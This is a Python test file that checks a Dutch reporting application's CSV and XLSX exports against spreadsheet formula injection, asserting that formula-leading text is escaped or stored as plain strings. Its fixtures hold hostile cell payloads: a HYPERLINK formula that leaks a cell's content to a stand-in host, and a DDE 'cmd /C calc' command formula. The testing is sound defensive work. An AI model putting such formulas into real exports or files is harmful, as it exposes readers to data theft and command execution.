"""Issue 14, point 3: exports cannot attack their reader (OWASP CSV injection).

Text that begins with `=`, `+`, `-`, `@`, tab or carriage return reaches the CSV with a leading "'" and the XLSX
as a string cell, never a formula; numbers stay numbers. The files are read back as a spreadsheet would: the CSV
with Python's csv reader, the XLSX with openpyxl."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from hoofdzaak.models import Organisatie, Regio
from rapportage import exports
from tests.fabriek import KWARTAAL, haal_export

HYPERLINK = '=HYPERLINK("http://x"&B2;"Rijnvicus")'
NAMEN = {
    "ggz": "=1+1",
    "gemeente": "@SUM(1+1)*cmd|' /C calc'!A0",
    "gemeente2": "-2+3",
}


@pytest.mark.parametrize("teken", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cel_met_formuleteken_wordt_tekst(teken):
    assert exports._csv_cel(f"{teken}1+1") == f"'{teken}1+1"


@pytest.mark.parametrize("waarde", ["8", "-1", "12.5", "-0.5", "", "Gemeente Leiden", "1e309"])
def test_csv_cel_laat_getallen_en_gewone_tekst_staan(waarde):
    assert exports._csv_cel(waarde) == waarde


@pytest.fixture
def kwaadaardige_namen(cijfers):  # noqa: F811
    Regio.objects.filter(pk=cijfers.a.regio.pk).update(naam=HYPERLINK)
    for sleutel, naam in NAMEN.items():
        Organisatie.objects.filter(pk=cijfers.a.organisaties[sleutel].pk).update(naam=naam)
    return cijfers


def _kwartaal(client, w, naam):
    response = haal_export(client, w, naam, jaar=KWARTAAL.van.year, kwartaal=KWARTAAL.kwartaalnummer)
    assert response.status_code == 200
    return response.content


def test_csv_export_schrijft_formules_als_tekst(kwaadaardige_namen, client):
    tekst = _kwartaal(client, kwaadaardige_namen, "rapporten_export_csv").decode("utf-8-sig")
    cellen = [cel for regel in csv.reader(io.StringIO(tekst), delimiter=";") for cel in regel]
    for naam in (HYPERLINK, *NAMEN.values()):
        assert "'" + naam in cellen
        assert naam not in cellen
    assert not [cel for cel in cellen if cel.startswith(exports.FORMULE_TEKENS) and not cel.startswith("'")]
    regels = list(csv.reader(io.StringIO(tekst), delimiter=";"))
    assert next(r for r in regels if r[2] == "Kerncijfers" and r[4] == "gestart")[5] == "8"


def test_werkmonitor_export_schrijft_formules_als_tekst(kwaadaardige_namen, client):
    tekst = _kwartaal(client, kwaadaardige_namen, "rapporten_werkmonitor").decode("utf-8-sig")
    regels = list(csv.DictReader(io.StringIO(tekst), delimiter=";"))
    assert [r["aanbieder (provider)"] for r in regels] == ["'=1+1", "'=1+1", *["Totaal regio"] * 3]
    assert {r["regio (region)"] for r in regels} == {"'" + HYPERLINK}


def test_xlsx_export_schrijft_formules_als_tekstcellen(kwaadaardige_namen, client):
    boek = load_workbook(io.BytesIO(_kwartaal(client, kwaadaardige_namen, "rapporten_export_xlsx")))
    cellen = [cel for blad in boek.worksheets for rij in blad.iter_rows() for cel in rij]
    assert not [cel.coordinate for cel in cellen if cel.data_type == "f"]
    teksten = {cel.value for cel in cellen if cel.data_type == "s"}
    for naam in (HYPERLINK, *NAMEN.values()):
        assert naam in teksten
    kern = {r[1]: r[2] for r in boek["Kerncijfers"].iter_rows(min_row=2, values_only=True)}
    assert kern["gestart"] == 8 and isinstance(kern["gestart"], int)


def test_xlsx_getallen_blijven_getallen():
    assert exports._als_getal("-1") == -1
    assert exports._als_getal("12.5") == 12.5
    assert exports._als_getal("=1+1") == "=1+1"
    assert exports._als_getal("1e309") == "1e309"
